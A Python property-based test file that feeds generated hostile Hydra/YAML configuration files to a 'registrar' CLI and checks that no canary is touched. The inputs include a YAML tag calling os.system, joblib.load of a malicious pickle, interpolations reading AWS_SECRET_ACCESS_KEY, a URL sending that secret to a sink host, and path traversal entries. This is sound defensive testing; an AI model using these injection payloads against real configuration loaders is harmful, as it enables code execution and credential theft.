"""Generated files with odd keys, tags, packages and defaults lists: no canary is ever touched."""

from __future__ import annotations

import shutil
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from registrar.cli import main
from tests.support.attack import SECRETS, Attack
from tests.support.sink import open_sink

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.support.sink import Sink

CALLS = [
    {"_target_": "joblib.load", "filename": "models/px/evil.pkl"},
    {"_target_": "builtins.open", "file": "{marker}", "mode": "w"},
    {"()": "joblib.load", "filename": "models/px/evil.pkl"},
    {"class": "logging.FileHandler", "filename": "{marker}"},
]
WORDS = [
    *("${oc.env:AWS_SECRET_ACCESS_KEY}", "${oc.env:CANARY_TOKEN,x}", "${hydra:job.env_set}"),
    *("http://{sink}/${oc.env:AWS_SECRET_ACCESS_KEY}", "mlflow-artifacts://{sink}/0/m"),
    *("{outside}/model", "file://{outside}", "pkg://boom", "models/px", "px", "MULTIRUN", "delete"),
]
KEYS = [
    *("hydra", "callbacks", "x", "job", "env_set", "mode", "searchpath", "job_logging", "handlers"),
    *(
        "hydra_logging",
        "launcher",
        "sweeper",
        "help",
        "run",
        "dir",
        "_target_",
        "MLFLOW_TRACKING_URI",
    ),
    *(
        "server",
        "tracking_uri",
        "model",
        "name",
        "uri",
        "metadata",
        "description",
        "command",
        "apply",
    ),
    *("delete", "models", "executor", "address", "kind", "a.b", "hydra.callbacks", "_global_"),
]
PACKAGES = [
    *(
        "_global_",
        "_global_.hydra",
        "hydra",
        "hydra.callbacks",
        "model",
        "model.metadata",
        "server",
    ),
    *("model._global_.hydra", "_group_", "_name_", "_here_", "delete", "x"),
]
ENTRIES = [
    *("_self_", "extra/more", "/extra/more", "/hydra/job_logging/default", "../../outside/secret"),
    *({"extra": "more"}, {"/extra": "more"}, {"override /server": "local"}, {"/server": "local"}),
    *({"override hydra/launcher": "basic"}, {"override /hydra/job_logging": "default"}),
    *({f"/extra@{package}": "more"} for package in PACKAGES),
    {"extra": "${oc.env:AWS_SECRET_ACCESS_KEY}"},
]
VALUES: Any = st.recursive(
    st.sampled_from([*WORDS, *CALLS, None, 1]),
    lambda inside: st.one_of(
        st.dictionaries(st.sampled_from(KEYS), inside, max_size=3),
        st.lists(inside, max_size=2),
    ),
    max_leaves=6,
)


@st.composite
def files(draw: st.DrawFn) -> str:
    """The text of a configuration file."""
    content: dict[str, Any] = draw(st.dictionaries(st.sampled_from(KEYS), VALUES, max_size=4))
    if draw(st.booleans()):
        content = {"name": "px", "uri": "models/px", **content}
    if entries := draw(st.lists(st.sampled_from(ENTRIES), max_size=3)):
        content["defaults"] = entries
    text = yaml.safe_dump(content, sort_keys=False)
    if draw(st.booleans()):
        text = f"# @package {draw(st.sampled_from(PACKAGES))}\n{text}"
    if draw(st.integers(0, 9)) == 0:
        text += 'tagged: !!python/object/apply:os.system ["touch {marker}"]\n'
    if draw(st.integers(0, 9)) == 0:
        text += (
            "<<: {hydra: {callbacks: {x: {_target_: joblib.load, filename: models/px/evil.pkl}}}}\n"
        )
    return text


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    with open_sink() as sink:
        yield sink


CALLBACK = "hydra: {callbacks: {x: {_target_: joblib.load, filename: models/px/evil.pkl}}}\n"
BASE = "defaults: [registrar, _self_, {extra: more}]\n"


@example(model=CALLBACK, more="", primary=CALLBACK, mode=[])
@example(model="", more="defaults: [{/extra@model: more}]", primary="", mode=[])
@example(model=f"# @package _global_\n{CALLBACK}", more=CALLBACK, primary="", mode=["--multirun"])
@given(
    model=files(),
    more=files(),
    primary=files().filter(lambda text: "defaults" not in text and "@" not in text),
    mode=st.sampled_from([[], ["--multirun"], ["--cfg", "job", "--resolve"]]),
)
@settings(
    max_examples=max(10, settings().max_examples // 6),
    suppress_health_check=[HealthCheck.function_scoped_fixture],  # each example reads its output
)
def test_no_generated_file_touches_a_canary(
    sink: Sink,
    capfd: pytest.CaptureFixture[str],
    model: str,
    more: str,
    primary: str,
    mode: list[str],
) -> None:
    folder = Path(tempfile.mkdtemp(prefix="registrar-hostile-"))
    try:
        attack = Attack(folder, sink, sink)
        attack.write("configs/model/px.yaml", model)
        attack.write("configs/extra/more.yaml", more)
        attack.write("configs/config.yaml", BASE + primary)
        with pytest.MonkeyPatch.context() as patch:
            patch.chdir(attack.repository)
            for name, value in {**SECRETS, "REGISTRAR_STRICT": "true"}.items():
                patch.setenv(name, value)
            code = main(["validate", "model=px", *mode])
        printed = capfd.readouterr()
        attack.check(printed.out, printed.err)
        assert code in {0, 2}, printed.err
        assert "Traceback" not in printed.err
    finally:
        shutil.rmtree(folder)
